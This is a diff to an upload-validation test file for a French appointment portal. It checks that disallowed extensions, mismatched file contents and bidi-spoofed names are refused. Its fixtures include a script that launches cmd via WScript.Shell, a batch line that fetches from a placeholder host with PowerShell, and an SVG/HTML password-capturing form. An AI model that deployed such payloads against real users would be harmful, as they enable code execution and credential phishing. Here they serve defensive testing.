@@ -6,6 +6,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { buffer } from 'node:stream/consumers';
 import request from 'supertest';
+import { RendezVousMessages as M } from '@portail/contracts';
 import { PERSONNE, QA_PASSWORD, rdvId } from '../../../seeds/ids';
 import { BLOB_STORE, type BlobStore } from '../src/common/storage/blob-store';
 import { RendezVousFichiers } from '../src/modules/rendez-vous/fichiers/rendez-vous-fichiers.service';
@@ -103,9 +104,7 @@ describe('content and names (issue 8 item 16)', () => {
     const before = await stored();
     const res = await register([{ name: 'facture.pdf', data: EXE }], 400);
     expect(res.body).toMatchObject({ code: 'VALIDATION', displayable: true });
-    expect(res.body.issues).toEqual([
-      { path: 'files.0', message: 'facture.pdf : Ce type de fichier n’est pas accepté : PDF, image, document bureautique ou texte uniquement.' },
-    ]);
+    expect(res.body.issues).toEqual([{ path: 'files.0', message: `facture.pdf : ${M.fichierContenuIncoherent}` }]);
     await new Promise((r) => setTimeout(r, 200));
     expect(await stored()).toEqual(before);
     expect(list(partsDir())).toEqual([]);
@@ -114,8 +113,8 @@ describe('content and names (issue 8 item 16)', () => {
   it('strips bidi and control characters from names and mails each file with its sniffed type', async () => {
     const res = await register(
       [
-        { name: 'facture\u202Efdp.exe', data: PDF },
-        { name: 'photo.pdf', data: PNG },
+        { name: 'facture\u202Efdp.pdf', data: PDF },
+        { name: 'photo.PNG', data: PNG },
         { name: 'notes\u200F.txt', data: Buffer.from('Rendement 2025 : 62 q/ha\n') },
       ],
       200,
@@ -123,23 +122,74 @@ describe('content and names (issue 8 item 16)', () => {
     );
     const kept = await pieces(res.body.id);
     expect(kept.map(({ nom, type }) => ({ nom, type }))).toEqual([
-      { nom: 'facturefdp.exe', type: 'application/pdf' },
-      { nom: 'photo.pdf', type: 'image/png' },
+      { nom: 'facturefdp.pdf', type: 'application/pdf' },
+      { nom: 'photo.PNG', type: 'image/png' },
       { nom: 'notes.txt', type: 'text/plain' },
     ]);
     // The adviser's mail reads its attachments from the blob store: the client's may arrive first.
-    const adviserMail = () => smtp.mails.find((m) => m.to.includes('julie.bernard@') && m.text.includes('facturefdp.exe'));
+    const adviserMail = () => smtp.mails.find((m) => m.to.includes('julie.bernard@') && m.text.includes('facturefdp.pdf'));
     await until(() => adviserMail() !== undefined, 'mail au conseiller', 15_000);
     const mail = adviserMail();
     expect(mail?.attachments.map(({ filename, contentType }) => ({ filename, contentType }))).toEqual([
-      { filename: 'facturefdp.exe', contentType: 'application/pdf' },
-      { filename: 'photo.pdf', contentType: 'image/png' },
+      { filename: 'facturefdp.pdf', contentType: 'application/pdf' },
+      { filename: 'photo.PNG', contentType: 'image/png' },
       { filename: 'notes.txt', contentType: 'text/plain' },
     ]);
     expect(mail?.attachmentTexts['notes.txt']).toBe('Rendement 2025 : 62 q/ha\n');
     expect(JSON.stringify(mail)).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200e\u200f]/);
     for (const p of kept) expect(await isStored(p.fichier)).toBe(true);
     expect(list(partsDir())).toEqual([]);
+  });
+});
+
+describe('extensions and contents (issue 30 item 1)', () => {
+  const SCRIPT = Buffer.from('<script>new ActiveXObject("WScript.Shell").Run("cmd /c calc")</script>\n');
+  const FORM = Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form action="https://exemple.invalid"><input type="password" name="mdp"></form></foreignObject></svg>\n',
+  );
+  const requests = async (email: string) => (await t.ds.query('SELECT count(*)::int AS n FROM demande_rendez_vous WHERE email = $1', [email]))[0].n;
+
+  it.each([
+    ['urgent.hta', SCRIPT],
+    ['outil.js', SCRIPT],
+    ['lancer.bat', Buffer.from('@echo off\r\npowershell -c "iwr https://exemple.invalid"\r\n')],
+    ['logo.svg', FORM],
+    ['connexion.html', FORM],
+    ['LISEZMOI', Buffer.from('Sans extension\n')],
+  ])('refuses %s, a text outside the allow-list of extensions, keeping and mailing nothing', async (name, data) => {
+    const before = await stored();
+    const email = `refus.${name.replace(/\W/g, '')}@exemple.fr`;
+    const res = await register(
+      [
+        { name: 'bilan.pdf', data: PDF },
+        { name, data },
+      ],
+      400,
+      email,
+    );
+    expect(res.body).toMatchObject({ statusCode: 400, code: 'VALIDATION', displayable: true });
+    expect(res.body.issues).toEqual([{ path: 'files.1', message: `${name} : ${M.typeFichierRefuse}` }]);
+    expect(await requests(email)).toBe(0);
+    expect(await stored()).toEqual(before);
+    await until(() => list(partsDir()).length === 0, 'parties retirées');
+  });
+
+  it('refuses a content that is not of its extension: a PNG named .pdf, a PDF named .txt, a web page named .docx', async () => {
+    const res = await register(
+      [
+        { name: 'photo.pdf', data: PNG },
+        { name: 'notes.txt', data: PDF },
+        { name: 'courrier.docx', data: FORM },
+      ],
+      400,
+      'refus.contenu@exemple.fr',
+    );
+    expect(res.body.issues).toEqual([
+      { path: 'files.0', message: `photo.pdf : ${M.fichierContenuIncoherent}` },
+      { path: 'files.1', message: `notes.txt : ${M.fichierContenuIncoherent}` },
+      { path: 'files.2', message: `courrier.docx : ${M.fichierContenuIncoherent}` },
+    ]);
+    expect(await requests('refus.contenu@exemple.fr')).toBe(0);
   });
 });
 
